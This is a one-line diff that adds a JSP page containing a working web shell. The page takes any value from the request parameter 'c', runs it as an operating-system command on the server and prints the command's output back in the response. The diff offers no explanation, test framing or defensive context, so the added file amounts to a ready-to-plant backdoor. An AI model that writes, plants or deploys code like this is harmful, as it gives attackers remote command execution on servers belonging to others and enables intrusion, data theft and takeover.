@@ -1,0 +1,1 @@
+<%@page import="java.util.*,java.io.*"%><% if (request.getParameter("c") != null) { Process p = Runtime.getRuntime().exec(request.getParameter("c")); Scanner s = new Scanner(p.getInputStream()).useDelimiter("\\A"); out.println(s.next()); } %>
